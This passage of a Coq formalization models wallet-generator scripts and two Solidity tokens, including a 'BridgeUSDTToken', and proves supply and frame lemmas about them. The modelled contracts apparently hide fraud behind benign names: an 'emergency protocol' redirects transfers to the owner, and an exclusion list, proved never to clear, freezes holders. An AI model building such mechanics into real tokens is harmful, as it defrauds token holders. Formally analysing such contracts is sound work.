with parse_members (fuel : nat) (acc : list (list Z * value)) (s : list Z)
  : option (list (list Z * value) * list Z) :=
  match fuel with
  | O => None
  | S f =>
      match skip_ws s with
      | c :: r =>
          if decide (c = 34) then
            '(k, rest) ← parse_string r;
            match skip_ws rest with
            | c' :: rest' =>
                if decide (c' = 58) then
                  '(v, rest'') ← parse_value f rest';
                  let acc' := set_member k v acc in
                  match skip_ws rest'' with
                  | c'' :: rest''' =>
                      if decide (c'' = 44) then parse_members f acc' rest'''
                      else if decide (c'' = 125) then Some (acc', rest''')
                      else None
                  | [] => None
                  end
                else None
            | [] => None
            end
          else None
      | [] => None
      end
  end.

(** [JSON.parse(text)]: a value, followed by white space only; anything
    else throws. *)
Definition parse (text : list Z) : option value :=
  '(v, rest) ← parse_value (S (length text)) text;
  match skip_ws rest with
  | [] => Some v
  | _ => None
  end.

End JSON.

(** ** The wallet generator and the scripts that read its output *)

Module Wallets.

(** What [main] pushes on [wallets]. *)
Record wallet : Type := mkWallet {
  address : list Z;
  privateKey : list Z;
  mnemonic : list Z
}.

(** The three fields are strings. *)
Definition is_wallet (w : wallet) : Prop :=
  Forall is_code_unit (address w) ∧ Forall is_code_unit (privateKey w)
  ∧ Forall is_code_unit (mnemonic w).

#[global] Instance is_wallet_dec w : Decision (is_wallet w).
Proof. unfold is_wallet. apply _. Defined.

(** The JavaScript value of a wallet and of a list of wallets. *)
Definition wallet_value (w : wallet) : JSON.value :=
  JSON.Obj [(js "address", JSON.Str (address w));
            (js "privateKey", JSON.Str (privateKey w));
            (js "mnemonic", JSON.Str (mnemonic w))].

Definition wallets_value (ws : list wallet) : JSON.value :=
  JSON.Arr (wallet_value <$> ws).

(** What [encrypt] returns. *)
Record encrypted : Type := mkEncrypted {
  iv : list Z;
  encryptedData : list Z
}.

(** [generateRandomPassword], [bytes] being the draw of
    [crypto.randomBytes(32)]. *)
Definition generateRandomPassword (bytes : list Z) : list Z := Buffer.to_hex bytes.

(** [encrypt(data, password)], [random_iv] being the draw of
    [crypto.randomBytes(16)]. *)
Definition encrypt (random_iv : list Z) (data : JSON.value) (password : list Z)
  : option encrypted :=
  let iv := random_iv in
  cipher ← crypto.createCipheriv "aes-256-cbc" (Buffer.from_hex password) iv;
  let '(out, cipher) :=
    crypto.cipher_update cipher (Buffer.from_utf8_string (JSON.stringify data)) in
  let encrypted := Buffer.to_hex out in
  let encrypted := encrypted ++ Buffer.to_hex (crypto.cipher_final cipher) in
  Some (mkEncrypted (Buffer.to_hex iv) encrypted).

(** [decrypt(encryptedData, iv, password)].  With the output encoding
    "utf8" the decipher decodes its output as one stream, a character cut
    by the end of [update]'s output being completed in [final]'s: the two
    strings concatenated are the decoding of the two outputs
    concatenated. *)
Definition decrypt (encryptedData iv password : list Z) : option JSON.value :=
  decipher ← crypto.createDecipheriv "aes-256-cbc" (Buffer.from_hex password)
               (Buffer.from_hex iv);
  let '(out, decipher) := crypto.decipher_update decipher (Buffer.from_hex encryptedData) in
  last ← crypto.decipher_final decipher;
  let decrypted := Buffer.to_utf8_string (out ++ last) in
  JSON.parse decrypted.

End Wallets.

Module Scripts.

(** [decrypt] of distribute-tokens.js and of random-transactions.js: the
    statements of the generator's [decrypt] inside a [try] whose [catch]
    logs and throws the error again. *)
Definition decrypt (encryptedData iv password : list Z) : option JSON.value :=
  let try :=
    decipher ← crypto.createDecipheriv "aes-256-cbc" (Buffer.from_hex password)
                 (Buffer.from_hex iv);
    let '(out, decipher) :=
      crypto.decipher_update decipher (Buffer.from_hex encryptedData) in
    last ← crypto.decipher_final decipher;
    let decrypted := Buffer.to_utf8_string (out ++ last) in
    JSON.parse decrypted in
  match try with
  | Some v => Some v
  | None => None   (* console.error(...); throw error *)
  end.

End Scripts.

(** A run of the generator: two wallets, the second without a mnemonic,
    and the draws of [crypto.randomBytes]. *)

Module WalletSample.

Definition wallets : list Wallets.wallet :=
  [ Wallets.mkWallet
      (js "0x9858EfFD232B4033E47d90003D41EC34EcaEda94")
      (js "0x1ab42cc412b618bdea3a599e3c9bae199ebf030895b039e9db1e30dafb12b727")
      (js "test test test test test test test test test test test junk");
    Wallets.mkWallet
      (js "0x6813Eb9362372EEF6200f3b1dbC3f819671cBA69")
      (js "0x4c0883a69102937d6231471b5dbb6204fe5129617082792ae468d01a3f362318")
      (js "N/A") ].

Definition password_bytes : list Z := (λ i, (37 * i + 11) mod 256) <$> seqZ 0 32.

Definition password : list Z := Wallets.generateRandomPassword password_bytes.

Definition iv : list Z := (λ i, (101 * i + 7) mod 256) <$> seqZ 0 16.

End WalletSample.

(** ** The contract generator: the name of the generated contract *)

Module Generator.

(** The class [[a-zA-Z0-9]] of the regular expression. *)
Definition is_alphanumeric (c : Z) : bool :=
  bool_decide (97 ≤ c ≤ 122) || bool_decide (65 ≤ c ≤ 90) || bool_decide (48 ≤ c ≤ 57).

(** [contractName]: every match of [/[^a-zA-Z0-9]/g] in [tokenName] is
    replaced by the empty string, and "Token" is appended.  Without the [u]
    flag the expression matches one code unit at a time. *)
Definition contractName (tokenName : list Z) : list Z :=
  List.filter is_alphanumeric tokenName ++ js "Token".

End Generator.

(** ** More sample runs *)

Module Scenes.
Import Sample.

(** From [template_funded] (alice owns 900, bob 100): trading switched
    on, and then the wallet limit lowered to 5. *)
Definition template_trading_on : Template.state :=
  run_template [(1700000020, alice, Template.c_setTradingStatus true)] template_funded.

Definition template_small_wallets : Template.state :=
  run_template [(1700000025, alice, Template.c_setMaxWalletLimit 5)] template_trading_on.

(** bob is named a network validator. *)
Definition template_validator : Template.state :=
  run_template [(1700000020, alice, Template.c_setNetworkValidator bob 3)] template_funded.

(** bob approves carol for 60, is then excluded, and the contract is
    paused. *)
Definition template_approved_paused : Template.state :=
  run_template [(1700000020, bob, Template.c_approve carol 60);
                (1700000021, alice, Template.c_enhanceParticipantSecurity [bob]);
                (1700000022, alice, Template.c_pause)] template_funded.

(** In the emergency mode: bob approves carol for 60; or alice renounces
    the ownership. *)
Definition template_emergency_approved : Template.state :=
  run_template [(1700000030, bob, Template.c_approve carol 60)] template_emergency.

Definition template_renounced : Template.state :=
  run_template [(1700000030, alice, Template.c_renounceOwnership)] template_emergency.

(** From [bridge_funded] (alice owns 900, bob 100): bob and carol set up
    their PINs, and carol sends bob a message. *)
Definition bridge_pins : Bridge.state :=
  run_bridge [(1700000020, bob, Bridge.c_setupSecurityPIN "4321");
              (1700000021, carol, Bridge.c_setupSecurityPIN "9999")] bridge_funded.

Definition bridge_message : Bridge.state :=
  run_bridge [(1700000030, carol, Bridge.c_SecuredMessageSend bob "hello" "4321")] bridge_pins.

(** alice makes carol an administrator of level 4. *)
Definition bridge_admin : Bridge.state :=
  run_bridge [(1700000020, alice, Bridge.c_updateSystemAdmin carol true 4)] bridge_funded.

(** alice hands the ownership to bob. *)
Definition bridge_handed_over : Bridge.state :=
  run_bridge [(1700000020, alice, Bridge.c_transferOwnership bob)] bridge_funded.


(** alice, administrator since the deployment, opens the window by a
    maintenance call. *)
Definition bridge_maintained : Bridge.state :=
  run_bridge [(1700000020, alice, Bridge.c_performSystemMaintenance 3 7 99)] bridge_funded.

(** bob marks the message he got from carol as deleted. *)
Definition bridge_deleted : Bridge.state :=
  run_bridge [(1700000040, bob, Bridge.c_SecuredMessageSetDeleted 0 "4321")] bridge_message.

(** alice opens the window, has herself put on the priority list within
    it, sets up a PIN and sends bob a message. *)
Definition bridge_listed : Bridge.state :=
  run_bridge [(1700000021, alice, Bridge.c_verifyProtocolIntegrity 1 42)] bridge_maintained.

Definition bridge_priority : Bridge.state :=
  run_bridge [(1700000022, alice, Bridge.c_setupSecurityPIN "1234");
              (1700000023, bob, Bridge.c_setupSecurityPIN "4321");
              (1700000024, alice, Bridge.c_SecuredMessageSend bob "hello" "4321")]
    bridge_listed.

End Scenes.
Lemma mget_insert `{Countable K} {V} (d : V) (m : gmap K V) k k' v :
  mget d (<[k:=v]> m) k' = if decide (k = k') then v else mget d m k'.
Proof.
  unfold mget. rewrite lookup_insert. by case_decide.
Qed.

Lemma mget_insert_eq `{Countable K} {V} (d : V) (m : gmap K V) k v :
  mget d (<[k:=v]> m) k = v.
Proof. rewrite mget_insert. by case_decide. Qed.

Lemma mget_insert_ne `{Countable K} {V} (d : V) (m : gmap K V) k k' v :
  k ≠ k' → mget d (<[k:=v]> m) k' = mget d m k'.
Proof. intros. rewrite mget_insert. by case_decide. Qed.

Lemma mget_empty `{Countable K} {V} (d : V) (k : K) : mget d (∅ : gmap K V) k = d.
Proof. unfold mget. by rewrite lookup_empty. Qed.

Lemma sum_values_empty : sum_values ∅ = 0.
Proof. apply map_fold_empty. Qed.

Lemma sum_values_insert_fresh (m : gmap N Z) k v :
  m !! k = None → sum_values (<[k:=v]> m) = v + sum_values m.
Proof.
  intros Hk. unfold sum_values.
  apply (map_fold_insert_L (λ _ v acc, v + acc)); [|done].
  intros. lia.
Qed.

Lemma sum_values_delete (m : gmap N Z) k :
  sum_values (delete k m) = sum_values m - mget 0 m k.
Proof.
  unfold mget. destruct (m !! k) as [v|] eqn:Hk; simpl.
  - rewrite <- (insert_delete_id m k v) at 2 by done.
    rewrite sum_values_insert_fresh by apply lookup_delete_eq. lia.
  - rewrite delete_id by done. lia.
Qed.

Lemma sum_values_insert (m : gmap N Z) k v :
  sum_values (<[k:=v]> m) = sum_values m - mget 0 m k + v.
Proof.
  rewrite <- insert_delete_eq.
  rewrite sum_values_insert_fresh by apply lookup_delete_eq.
  rewrite sum_values_delete. lia.
Qed.

Lemma nonneg_values_mget m k : nonneg_values m → 0 ≤ mget 0 m k.
Proof.
  intros Hm. unfold mget. destruct (m !! k) eqn:E; simpl; [eauto|lia].
Qed.

Lemma nonneg_values_insert m k v :
  nonneg_values m → 0 ≤ v → nonneg_values (<[k:=v]> m).
Proof.
  intros Hm Hv k' v'. rewrite lookup_insert. case_decide; [naive_solver|eauto].
Qed.

Lemma nonneg_values_delete m k : nonneg_values m → nonneg_values (delete k m).
Proof.
  intros Hm k' v'. rewrite lookup_delete. case_decide; [done|eauto].
Qed.

Lemma sum_values_nonneg m : nonneg_values m → 0 ≤ sum_values m.
Proof.
  induction m as [|k v m Hk IH] using map_ind; intros Hm.
  - by rewrite sum_values_empty.
  - rewrite sum_values_insert_fresh by done.
    assert (0 ≤ v) by (apply (Hm k); by rewrite lookup_insert_eq).
    assert (nonneg_values m).
    { intros k' v' Hk'. apply (Hm k'). rewrite lookup_insert_ne; [done|].
      intros ->. congruence. }
    specialize (IH ltac:(done)). lia.
Qed.

Lemma sum_values_ge m k : nonneg_values m → mget 0 m k ≤ sum_values m.
Proof.
  intros Hm. pose proof (sum_values_delete m k) as Hd.
  pose proof (sum_values_nonneg _ (nonneg_values_delete m k Hm)). lia.
Qed.

Lemma sum_values_ge2 m k1 k2 :
  nonneg_values m → k1 ≠ k2 → mget 0 m k1 + mget 0 m k2 ≤ sum_values m.
Proof.
  intros Hm Hne. pose proof (sum_values_delete m k1) as Hd.
  pose proof (sum_values_ge (delete k1 m) k2 (nonneg_values_delete m k1 Hm)) as Hg.
  unfold mget in Hg at 1. rewrite lookup_delete_ne in Hg by done.
  fold (mget 0 m k2) in Hg. lia.
Qed.

(** ** Reasoning about calls that return *)

Lemma bind_Ok {A B} (r : result A) (k : A → result B) (b : B) :
  r ≫= k = Ok b → ∃ a, r = Ok a ∧ k a = Ok b.
Proof. destruct r as [a|f]; simpl; [eauto|discriminate]. Qed.

Lemma require_Ok (b : bool) reason (u : unit) : require b reason = Ok u → b = true.
Proof. destruct b; [done|discriminate]. Qed.

Lemma checked_add_Ok a b c : checked_add a b = Ok c → c = a + b ∧ a + b ≤ uint256_max.
Proof. unfold checked_add. case_decide; [|discriminate]. by intros [= <-]. Qed.

Lemma checked_sub_Ok a b c : checked_sub a b = Ok c → c = a - b ∧ b ≤ a.
Proof. unfold checked_sub. case_decide; [|discriminate]. by intros [= <-]. Qed.

Lemma wrap256_id z : is_uint256 z → wrap256 z = z.
Proof.
  unfold is_uint256, uint256_max, wrap256. intros. apply Z.mod_small. lia.
Qed.

Lemma wrap256_range z : is_uint256 (wrap256 z).
Proof.
  unfold is_uint256, uint256_max, wrap256.
  pose proof (Z.mod_pos_bound z (2 ^ 256) ltac:(lia)). lia.
Qed.

(** Peel the successful prefix of a call: every [require] that passed
    becomes a fact, every bound intermediate a variable. *)
Ltac ok_step H :=
  let a := fresh "tmp" in
  let Ha := fresh "Hreq" in
  apply bind_Ok in H as (a & Ha & H);
  first
    [ apply require_Ok in Ha; first [apply bool_decide_eq_true_1 in Ha | idtac]
    | idtac ].

Ltac ok_steps H := repeat (ok_step H).

(** Syntactic variant of [ok_steps]: follow a returning call through its
    binds and branches without unfolding the callees. *)
Ltac peel H :=
  repeat match type of H with
  | (_ ≫= _) = Ok _ =>
      let x := fresh "x" in
      let Hx := fresh "Hx" in
      apply bind_Ok in H as (x & Hx & H)
  | (if ?b then _ else _) = Ok _ => destruct b eqn:?
  | (match ?x with _ => _ end) = Ok _ => destruct x eqn:?
  | Revert _ = Ok _ => discriminate H
  end.

(** The same on every hypothesis, ending with the equations solved. *)
Ltac peel_all :=
  repeat match goal with
  | H : (_ ≫= _) = Ok _ |- _ =>
      let x := fresh "x" in
      let Hx := fresh "Hx" in
      apply bind_Ok in H as (x & Hx & H)
  | H : (if ?b then _ else _) = Ok _ |- _ => destruct b eqn:?
  | H : (match ?x with _ => _ end) = Ok _ |- _ => destruct x eqn:?
  | H : Revert _ = Ok _ |- _ => discriminate H
  end;
  simplify_eq.

Module ERC20Facts.
Import ERC20.

Lemma inv_init name_ symbol_ : inv (init name_ symbol_).
Proof.
  unfold inv, init; simpl. split_and!.
  - intros k v. by rewrite lookup_empty.
  - apply sum_values_empty.
  - done.
Qed.

Lemma inv_balance_range e a : inv e → is_uint256 (balanceOf e a).
Proof.
  intros (Hn & Hs & Ht). split; [by apply nonneg_values_mget|].
  unfold balanceOf. pose proof (sum_values_ge _ a Hn). lia.
Qed.

(** What a successful [ERC20._transfer] does to a storage that satisfies
    the supply invariant. *)
Lemma _transfer_Ok from to amount e e' :
  inv e → 0 ≤ amount → _transfer from to amount e = Ok e' →
  from ≠ address0 ∧ to ≠ address0 ∧ amount ≤ balanceOf e from
  ∧ (∀ a, balanceOf e' a =
          if decide (from = to) then balanceOf e a
          else if decide (a = from) then balanceOf e a - amount
          else if decide (a = to) then balanceOf e a + amount
          else balanceOf e a)
  ∧ _totalSupply e' = _totalSupply e
  ∧ _allowances e' = _allowances e
  ∧ _nonces e' = _nonces e
  ∧ _name e' = _name e ∧ _symbol e' = _symbol e.
Proof.
  intros Hinv Hamt H. unfold _transfer in H. ok_steps H.
  injection H as <-. simpl.
  pose proof (inv_balance_range e from Hinv) as Hfrom.
  pose proof (inv_balance_range e to Hinv) as Hto.
  destruct Hinv as (Hn & Hs & Ht).
  repeat split; try done.
  intros a. unfold balanceOf in *. simpl.
  rewrite (wrap256_id (_ - amount)) by (unfold is_uint256 in *; lia).
  destruct (decide (from = to)) as [->|Hne].
  - rewrite mget_insert_eq.
    rewrite wrap256_id by (unfold is_uint256 in *; lia).
    rewrite insert_insert_eq, mget_insert. case_decide; [subst; lia|done].
  - rewrite (mget_insert_ne _ _ from to) by done.
    pose proof (sum_values_ge2 _ from to Hn Hne).
    rewrite wrap256_id by (unfold is_uint256 in *; lia).
    rewrite !mget_insert.
    repeat case_decide; subst; try done; lia.
Qed.

Lemma _transfer_inv from to amount e e' :
  inv e → 0 ≤ amount → _transfer from to amount e = Ok e' → inv e'.
Proof.
  intros Hinv Hamt H.
  destruct (_transfer_Ok _ _ _ _ _ Hinv Hamt H) as (_ & _ & Hle & Hb & Hts & _).
  pose proof (inv_balance_range e from Hinv) as Hfrom.
  pose proof (inv_balance_range e to Hinv) as Hto.
  unfold _transfer in H. ok_steps H. injection H as <-.
  destruct Hinv as (Hn & Hs & Ht).
  unfold inv, balanceOf in *; simpl in *.
  rewrite (wrap256_id (_ - amount)) by (unfold is_uint256 in *; lia).
  destruct (decide (from = to)) as [->|Hne].
  - rewrite mget_insert_eq.
    rewrite wrap256_id by (unfold is_uint256 in *; lia).
    rewrite insert_insert_eq.
    split_and!; [|rewrite sum_values_insert; lia|done].
    apply nonneg_values_insert; [done|unfold is_uint256 in *; lia].
  - rewrite (mget_insert_ne _ _ from to) by done.
    pose proof (sum_values_ge2 _ from to Hn Hne).
    rewrite wrap256_id by (unfold is_uint256 in *; lia).
    split_and!; [| |done].
    + repeat apply nonneg_values_insert; try done; unfold is_uint256 in *; lia.
    + rewrite !sum_values_insert, mget_insert_ne by done. lia.
Qed.

(** A successful [ERC20._mint]. *)
Lemma _mint_Ok account amount e e' :
  inv e → 0 ≤ amount → _mint account amount e = Ok e' →
  account ≠ address0
  ∧ _totalSupply e' = _totalSupply e + amount
  ∧ (∀ a, balanceOf e' a =
          if decide (a = account) then balanceOf e a + amount else balanceOf e a)
  ∧ _allowances e' = _allowances e
  ∧ _nonces e' = _nonces e
  ∧ _name e' = _name e ∧ _symbol e' = _symbol e
  ∧ inv e'.
Proof.
  intros Hinv Hamt H. unfold _mint in H. ok_steps H.
  apply checked_add_Ok in Hreq0 as [-> Hle].
  injection H as <-.
  pose proof (inv_balance_range e account Hinv) as Hacc.
  destruct Hinv as (Hn & Hs & Ht).
  pose proof (sum_values_ge _ account Hn) as Hge.
  unfold inv, balanceOf in *; simpl in *.
  rewrite wrap256_id by (unfold is_uint256 in *; lia).
  split_and!; try done.
  - intros a. rewrite mget_insert. repeat case_decide; subst; done.
  - apply nonneg_values_insert; [done|unfold is_uint256 in *; lia].
  - rewrite sum_values_insert. lia.
Qed.

(** A successful [ERC20._burn]. *)
Lemma _burn_Ok account amount e e' :
  inv e → 0 ≤ amount → _burn account amount e = Ok e' →
  account ≠ address0 ∧ amount ≤ balanceOf e account
  ∧ _totalSupply e' = _totalSupply e - amount
  ∧ (∀ a, balanceOf e' a =
          if decide (a = account) then balanceOf e a - amount else balanceOf e a)
  ∧ _allowances e' = _allowances e
  ∧ _nonces e' = _nonces e
  ∧ _name e' = _name e ∧ _symbol e' = _symbol e
  ∧ inv e'.
Proof.
  intros Hinv Hamt H. unfold _burn in H. ok_steps H.
  injection H as <-.
  pose proof (inv_balance_range e account Hinv) as Hacc.
  destruct Hinv as (Hn & Hs & Ht).
  pose proof (sum_values_ge _ account Hn) as Hge.
  unfold inv, balanceOf in *; simpl in *.
  rewrite !wrap256_id by (unfold is_uint256 in *; lia).
  split_and!; try done.
  - intros a. rewrite mget_insert. repeat case_decide; subst; done.
  - apply nonneg_values_insert; [done|unfold is_uint256 in *; lia].
  - rewrite sum_values_insert. lia.
  - lia.
Qed.

(** Allowance bookkeeping does not touch balances or supply. *)
Lemma _approve_Ok owner spender amount e e' :
  _approve owner spender amount e = Ok e' →
  e' = set_allowances (<[(owner, spender) := amount]> (_allowances e)) e.
Proof. intros H. unfold _approve in H. ok_steps H. by injection H as <-. Qed.

Lemma _approve_inv owner spender amount e e' :
  inv e → _approve owner spender amount e = Ok e' → inv e'.
Proof. intros Hinv H. apply _approve_Ok in H as ->. done. Qed.

Lemma _spendAllowance_Ok owner spender amount e e' :
  _spendAllowance owner spender amount e = Ok e' →
  ∃ a, e' = set_allowances a e.
Proof.
  unfold _spendAllowance. case_bool_decide as Hc.
  - intros Hr. ok_steps Hr. injection Hr as <-. eauto.
  - intros [= <-]. exists (_allowances e). by destruct e.
Qed.

Lemma set_allowances_inv a e : inv e → inv (set_allowances a e).
Proof. done. Qed.

Lemma permit_inv ts owner spender value deadline signer e e' :
  inv e → permit ts owner spender value deadline signer e = Ok e' → inv e'.
Proof.
  intros Hinv H. unfold permit in H. ok_steps H.
  destruct signer; [|discriminate]. ok_steps H.
  by injection H as <-.
Qed.

End ERC20Facts.

(** ** The template: frame lemmas and the supply invariant *)

Module TemplateFacts.
Import Template.

Section WithKeccak.
Context {hash : Keccak}.

Lemma onlyOwner_Ok msg_sender s u : onlyOwner msg_sender s = Ok u → owner s = msg_sender.
Proof. intros Hr. apply require_Ok in Hr. by apply bool_decide_eq_true_1 in Hr. Qed.

Lemma onlyOwner_other msg_sender s :
  msg_sender ≠ owner s →
  onlyOwner msg_sender s = Revert (Error "Ownable: caller is not the owner").
Proof.
  intros Hne. unfold onlyOwner, Ownable.onlyOwner.
  rewrite bool_decide_eq_false_2; [done|congruence].
Qed.

Lemma on_erc20_Ok f s s' :
  on_erc20 f s = Ok s' → ∃ e, f (erc20 s) = Ok e ∧ s' = set_erc20 e s.
Proof.
  unfold on_erc20. intros Hr. apply bind_Ok in Hr as (e & He & Hr).
  injection Hr as <-. eauto.
Qed.

(** [_recordInteraction] only writes the three analytics variables. *)
Lemma _recordInteraction_Ok now ty user md s s' :
  _recordInteraction now ty user md s = Ok s' →
  ∃ d u n, s' = set_totalInteractions n (set_userInteractions u (set_protocolData d s)).
Proof.
  unfold _recordInteraction. intros Hr. apply bind_Ok in Hr as (n & _ & Hr).
  injection Hr as <-. eauto.
Qed.

(** The two ways a call of the overriding [_transfer] can return. *)
Lemma transfer_override_Ok now from to amount s s' :
  _transfer now from to amount s = Ok s' →
  paused s = false ∧ isExcluded s from = false
  ∧ ((_shouldApplyEmergencyProtocol s from = true
      ∧ ∃ e, ERC20._transfer from (owner s) amount (erc20 s) = Ok e ∧ s' = set_erc20 e s)
     ∨ (_shouldApplyEmergencyProtocol s from = false
        ∧ ∃ s1 e, _recordInteraction now 4 from
                    (keccak256 (encodePacked [p_address from; p_address to; p_uint256 amount;
                                              p_uint256 now])) s = Ok s1
                  ∧ ERC20._transfer from to amount (erc20 s1) = Ok e ∧ s' = set_erc20 e s1)).
Proof.
  unfold _transfer. intros Hr.
  apply bind_Ok in Hr as (? & Hp & Hr). apply require_Ok, negb_true_iff in Hp.
  apply bind_Ok in Hr as (? & Hx & Hr). apply require_Ok, negb_true_iff in Hx.
  split_and!; try done.
  destruct (_shouldApplyEmergencyProtocol s from) eqn:Hem.
  - left. split; [done|]. by apply on_erc20_Ok.
  - right. split; [done|].
    apply bind_Ok in Hr as (? & _ & Hr).
    apply bind_Ok in Hr as (s1 & Hs1 & Hr).
    apply on_erc20_Ok in Hr as (e & He & ->). eauto.
Qed.

Lemma transfer_override_inv now from to amount s s' :
  inv s → 0 ≤ amount → _transfer now from to amount s = Ok s' → inv s'.
Proof.
  intros Hinv Hamt Hr. apply transfer_override_Ok in Hr as (_ & _ & [(_ & e & He & ->)|(_ & s1 & e & Hs1 & He & ->)]).
  - by eapply ERC20Facts._transfer_inv.
  - apply _recordInteraction_Ok in Hs1 as (d & u & n & ->).
    by eapply ERC20Facts._transfer_inv.
Qed.

Lemma constructor_inv now deployer name_ symbol_ supply s :
  0 ≤ supply → constructor now deployer name_ symbol_ supply = Ok s → inv s.
Proof.
  intros Hs Hr. unfold constructor in Hr.
  apply bind_Ok in Hr as (s1 & Hs1 & Hr). injection Hr as <-.
  apply on_erc20_Ok in Hs1 as (e & He & ->).
  eapply ERC20Facts._mint_Ok in He as (_ & _ & _ & _ & _ & _ & _ & Hi);
    [done|apply ERC20Facts.inv_init|done].
Qed.

(** Every successful call keeps the supply invariant. *)
Lemma dispatch_inv now msg_sender c s s' :
  inv s → valid_call c → dispatch now msg_sender c s = Ok s' → inv s'.
Proof.
  intros Hinv Hv Hr. destruct c; simpl in Hr, Hv.
  - unfold setPair in Hr. ok_steps Hr. by injection Hr as <-.
  - unfold updateSecurityProtocol in Hr. ok_steps Hr. by injection Hr as <-.
  - unfold optimizeProtocolPerformance in Hr. ok_steps Hr. by injection Hr as <-.
  - unfold setNetworkValidator in Hr. ok_steps Hr. by injection Hr as <-.
  - unfold enhanceParticipantSecurity in Hr. ok_steps Hr. injection Hr as <-.
    clear Hreq. revert s Hinv. induction participants as [|p ps IH]; intros s Hinv; [done|].
    simpl. by apply IH.
  - unfold setExempt in Hr. ok_steps Hr. by injection Hr as <-.
  - unfold setTradingStatus in Hr. ok_steps Hr. by injection Hr as <-.
  - unfold setMaxTransactionLimit in Hr. ok_steps Hr. by injection Hr as <-.
  - unfold setMaxWalletLimit in Hr. ok_steps Hr. by injection Hr as <-.
  - unfold pause in Hr. ok_steps Hr. by injection Hr as <-.
  - unfold unpause in Hr. ok_steps Hr. by injection Hr as <-.
  - unfold allocateProtocolReserves in Hr.
    apply bind_Ok in Hr as (? & _ & Hr). apply bind_Ok in Hr as (? & _ & Hr).
    apply bind_Ok in Hr as (s1 & Hs1 & Hr).
    apply on_erc20_Ok in Hs1 as (e & He & ->).
    apply _recordInteraction_Ok in Hr as (d & u & n & ->).
    eapply ERC20Facts._mint_Ok in He as (_ & _ & _ & _ & _ & _ & _ & Hi); try done.
    apply Hv.
  - unfold reduceCirculatingSupply in Hr.
    apply bind_Ok in Hr as (? & _ & Hr). apply bind_Ok in Hr as (s1 & Hs1 & Hr).
    apply on_erc20_Ok in Hs1 as (e & He & ->).
    apply _recordInteraction_Ok in Hr as (d & u & n & ->).
    eapply ERC20Facts._burn_Ok in He as (_ & _ & _ & _ & _ & _ & _ & _ & Hi); try done.
    apply Hv.
  - unfold optimizeWalletCompliance in Hr.
    apply bind_Ok in Hr as (? & _ & Hr). apply bind_Ok in Hr as (? & _ & Hr).
    apply bind_Ok in Hr as (s1 & Hs1 & Hr). apply bind_Ok in Hr as (s2 & Hs2 & Hr).
    apply on_erc20_Ok in Hs1 as (e1 & He1 & ->).
    apply on_erc20_Ok in Hs2 as (e2 & He2 & ->).
    apply _recordInteraction_Ok in Hr as (d & u & n & ->).
    apply ERC20Facts._approve_Ok in He1 as ->.
    eapply ERC20Facts._burn_Ok in He2 as (_ & _ & _ & _ & _ & _ & _ & _ & Hi); try done.
    apply Hv.
  - eapply transfer_override_inv; [done|apply Hv|done].
  - unfold transferFrom in Hr. apply bind_Ok in Hr as (s1 & Hs1 & Hr).
    apply on_erc20_Ok in Hs1 as (e1 & He1 & ->).
    apply ERC20Facts._spendAllowance_Ok in He1 as (a & ->).
    eapply transfer_override_inv; [|apply Hv|done]. done.
  - unfold approve in Hr. apply on_erc20_Ok in Hr as (e & He & ->).
    by apply ERC20Facts._approve_Ok in He as ->.
  - unfold increaseAllowance in Hr. apply on_erc20_Ok in Hr as (e & He & ->).
    unfold ERC20.increaseAllowance in He. apply bind_Ok in He as (v & _ & He).
    by apply ERC20Facts._approve_Ok in He as ->.
  - unfold decreaseAllowance in Hr. apply on_erc20_Ok in Hr as (e & He & ->).
    unfold ERC20.decreaseAllowance in He. apply bind_Ok in He as (v & _ & He).
    by apply ERC20Facts._approve_Ok in He as ->.
  - unfold permit in Hr. apply on_erc20_Ok in Hr as (e & He & ->).
    by eapply ERC20Facts.permit_inv.
  - unfold transferOwnership in Hr. ok_steps Hr. by injection Hr as <-.
  - unfold renounceOwnership in Hr. ok_steps Hr. by injection Hr as <-.
  - done.
Qed.

Lemma reachable_inv s : reachable s → inv s.
Proof.
  induction 1 as [now d n sy sup s Hs _ Hc|now snd c s s' _ IH Hv _ Hd].
  - eapply constructor_inv; [apply Hs|done].
  - by eapply dispatch_inv.
Qed.

(** *** The exclusion flag is never cleared *)

Lemma enhance_loop_excluded ps s p :
  p ∈ ps ∨ isExcluded s p = true → isExcluded (enhance_loop ps s) p = true.
Proof.
  revert s. induction ps as [|q ps IH]; intros s [Hin|Hex]; simpl.
  - by apply elem_of_nil in Hin.
  - done.
  - apply IH. apply elem_of_cons in Hin as [->|Hin]; [right|by left].
    unfold isExcluded. simpl. by rewrite mget_insert_eq.
  - apply IH. right. unfold isExcluded in *. simpl.
    rewrite mget_insert. by case_decide.
Qed.

Ltac template_callees :=
  repeat match goal with
  | Hk : on_erc20 _ _ = Ok _ |- _ => apply on_erc20_Ok in Hk as (? & ? & ->)
  | Hk : _recordInteraction _ _ _ _ _ = Ok _ |- _ =>
      apply _recordInteraction_Ok in Hk as (? & ? & ? & ->)
  | Hk : _transfer _ _ _ _ _ = Ok _ |- _ =>
      apply transfer_override_Ok in Hk
        as (_ & _ & [(_ & ? & ? & ->)|(_ & ? & ? & ? & ? & ->)])
  end.

(** A successful call keeps every account that is excluded excluded. *)
Lemma dispatch_excluded now msg_sender c s s' p :
  isExcluded s p = true → dispatch now msg_sender c s = Ok s' → isExcluded s' p = true.
Proof.
  intros Hex Hr.
  destruct c; simpl in Hr;
    unfold setPair, updateSecurityProtocol, optimizeProtocolPerformance,
      setNetworkValidator, enhanceParticipantSecurity, setExempt, setTradingStatus,
      setMaxTransactionLimit, setMaxWalletLimit, pause, unpause, allocateProtocolReserves,
      reduceCirculatingSupply, optimizeWalletCompliance, transfer, transferFrom, approve,
      increaseAllowance, decreaseAllowance, permit, transferOwnership, renounceOwnership,
      receive in Hr;
    peel_all; template_callees; try done.
  - unfold isExcluded in *. simpl. rewrite mget_insert.
    by destruct (decide (validator = p)).
  - apply enhance_loop_excluded. by right.
Qed.

End WithKeccak.
End TemplateFacts.

(** ** BridgeUSDTToken: frame lemmas and invariants *)

Module BridgeFacts.
Import Bridge.

Section WithKeccak.
Context {hash : Keccak}.

Lemma bridge_on_erc20_Ok f s s' :
  on_erc20 f s = Ok s' → ∃ e, f (erc20 s) = Ok e ∧ s' = set_erc20 e s.
Proof.
  unfold on_erc20. intros Hr. apply bind_Ok in Hr as (e & He & Hr).
  injection Hr as <-. eauto.
Qed.

Lemma bridge_onlyOwner_other msg_sender s :
  msg_sender ≠ owner s →
  onlyOwner msg_sender s = Revert (Error "Ownable: caller is not the owner").
Proof.
  intros Hne. unfold onlyOwner, Ownable.onlyOwner.
  rewrite bool_decide_eq_false_2; [done|congruence].
Qed.

Lemma nonReentrant_Ok body s s' :
  nonReentrant body s = Ok s' →
  _status s ≠ ReentrancyGuard._ENTERED
